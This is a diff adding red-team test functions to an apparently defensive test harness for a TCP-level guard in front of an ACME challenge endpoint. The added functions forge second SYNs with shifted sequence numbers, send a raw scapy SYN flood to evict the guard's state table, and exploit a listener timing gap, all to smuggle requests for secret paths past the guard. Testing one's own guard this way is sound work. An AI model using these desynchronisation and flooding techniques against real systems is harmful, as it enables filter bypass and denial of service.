@@ -358,6 +358,112 @@ def h_body(p, dst, sport, tok):
     finish(c)
 
 
+# --- red team (branch redteam) ------------------------------------------------------------
+def r1_syn_ahead(p, dst, sport, tok):
+    """a second SYN on the request socket, with an ISN 2^30 ahead: the kernel
+    answers it with an ACK (out of window) and keeps the request socket; the
+    guard's pending entry takes the new ISN. Then any request on the
+    handshake's last ACK at the real ISN+1: the guard takes it for data
+    'TCP already has' (it ends before its forged rcv_nxt) and passes it."""
+    import time
+    c = p.conn(dst, 80, sport, sport * 7919, name="r1")
+    if not c.syn():
+        return
+    c.xmit(c.segment(c.isn + 0x40000000, "S", syn=True))
+    say(c.name, "second SYN sent, seq ISN+2^30")
+    time.sleep(0.1)
+    req = b"GET /secret-r1 HTTP/1.1\r\nHost: e\r\n\r\n"
+    c.send(req, off=0)
+    c.wait_ack(len(req))
+    finish(c, expect_nothing=False)
+
+
+def r2_syn_behind(p, dst, sport, tok):
+    """a second SYN with an ISN k bytes behind: the guard's rcv_nxt becomes
+    ISN+1-k; one segment from there, a whole challenge request whose last
+    header line is 'A:GET /secret-r2 HTTP/1.1'; TCP keeps only the bytes
+    from the real ISN+1 on: nginx reads 'GET /secret-r2 ...'"""
+    import time
+    tail = b"GET /secret-r2 HTTP/1.1\r\nHost: e\r\n\r\n"
+    head = b"GET /.well-known/acme-challenge/" + tok + b" HTTP/1.1\r\nHost: e\r\nA:"
+    k = len(head)
+    c = p.conn(dst, 80, sport, sport * 7919, name="r2")
+    if not c.syn():
+        return
+    c.xmit(c.segment(c.isn - k, "S", syn=True))
+    say(c.name, "second SYN sent, seq ISN-%d" % k)
+    time.sleep(0.1)
+    c.send(head + tail, off=-k)
+    c.wait_ack(len(tail))
+    finish(c, expect_nothing=False)
+
+
+def _flood_syns(p, dst, first, n):
+    """n SYNs from ports first.. (each a marked connection attempt: an entry in
+    the guard's 8192-entry LRU guard_pending)"""
+    from scapy.layers.inet import IP, TCP
+    from scapy.layers.inet6 import IPv6
+    from scapy.layers.l2 import Ether
+    import socket as so
+    v6 = ":" in dst
+    src = os.environ.get("ATK_SRC6" if v6 else "ATK_SRC")
+    for i in range(n):
+        sp = first + (i % 30000)
+        ip = IPv6(src=src, dst=dst) if v6 else IP(src=src, dst=dst)
+        p.sock.send(bytes(Ether(src=p.smac, dst=p.dmac) / ip / TCP(sport=sp, dport=80, flags="S", seq=i * 7 + 1)))
+    say("flood: %d SYNs from ports %d.. sent" % (n, first))
+
+
+def r3_evict(p, dst, sport, tok):
+    """on a listener, the challenge on the handshake's last ACK (the verdict,
+    ADMITTED, sits in guard_pending); its answer not acknowledged (so nothing
+    reaches the child socket); then 25000 SYNs from other ports push the
+    entry out of the LRU; then a second challenge on the child: its first
+    packet finds no pending verdict and starts FRESH: a second request on one
+    connection"""
+    c = p.conn(dst, 80, sport, sport * 7919, name="r3")
+    if not c.syn():
+        return
+    req = challenge(tok)
+    c.send(req)
+    c.wait_ack(len(req))
+    c.reply(ack=False)
+    _flood_syns(p, dst, 30000, 25000)
+    c.rcv = c.seen
+    req2 = challenge(tok, b"Host: second\r\n")
+    c.send(req2, off=len(req))
+    c.wait_ack(c.nxt)
+    finish(c, expect_nothing=False)
+
+
+def r4_listener_after_close(p, dst, sport, tok):
+    """the challenge on the handshake's last ACK (judged on the listener: the
+    child socket never meets the guard, so it is not in guard_socks and is
+    not ended when the window closes); its answer not acknowledged; after
+    the test closed the window, the server's retransmission makes a new,
+    unmarked conntrack entry and a second request follows"""
+    sync = os.environ["ATK_SYNC"]
+    c = p.conn(dst, 80, sport, sport * 7919, name="r4")
+    if not c.syn():
+        return
+    req = challenge(tok)
+    c.send(req)
+    c.wait_ack(len(req))
+    c.reply(ack=False)
+    touch("%s/%d.first" % (sync, sport))
+    if not wait_file("%s/%d.go" % (sync, sport), 30):
+        say("r4: the test never said go")
+        return
+    second = b"GET /secret-r4 HTTP/1.1\r\nHost: e\r\n\r\n"
+    since = c.rx_segs
+    c.rcv = c.seen
+    c.send(second, off=len(req))
+    if not c.wait_ack(c.nxt, 1.0) and c.wait_server_data(since, 20.0):
+        c.send(second, off=len(req))
+        c.wait_ack(c.nxt, 1.0)
+    finish(c, expect_nothing=False)
+
+
 def main():
     tok = sys.argv[1].encode()
     p = Peer()
